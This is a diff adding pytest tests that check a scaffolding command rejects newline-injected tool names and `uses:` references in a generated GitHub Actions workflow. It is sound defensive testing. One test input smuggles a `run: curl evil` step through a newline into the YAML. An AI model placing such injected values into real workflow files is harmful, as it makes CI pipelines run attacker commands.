@@ -1,0 +1,34 @@
+"""`init` writes the tool's name and the `uses:` reference into YAML verbatim: each must be
+wholly of its form (`$` matched before a final newline; `--action` was not checked at all,
+so a newline in it added keys to the workflow's step)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from copeca_action.errors import ConfigError
+from copeca_action.github._scaffold import scaffold
+
+
+@pytest.mark.parametrize(("name", "action", "flag"), [
+    ("my-tool\n", "copeca-action/copeca-action@v1", "--name"),
+    ("my-tool", "x@v1\n        run: curl evil", "--action"),
+    ("my-tool", "copeca-action/copeca-action@v1\n", "--action"),
+    ("my-tool", "", "--action"),
+    ("my-tool", "no-ref/at-all", "--action")])
+def test_init_refuses_a_name_or_action_that_would_break_the_workflow(
+        tmp_path: Path, name: str, action: str, flag: str) -> None:
+    with pytest.raises(ConfigError) as info:
+        scaffold(tmp_path, "mcp", name, action)
+    assert flag in str(info.value)
+    assert not (tmp_path / ".github").exists()
+
+
+@pytest.mark.parametrize("action", ["copeca-action/copeca-action@v0.1.0", "./",
+                                    "./actions/copeca", "docker://ghcr.io/o/i:1.0",
+                                    "o/r/sub/dir@0123abcd"])
+def test_init_takes_every_documented_form_of_uses(tmp_path: Path, action: str) -> None:
+    scaffold(tmp_path, "mcp", "my-tool", action)
+    assert f"- uses: {action}\n" in (tmp_path / ".github/workflows/copeca.yml").read_text()
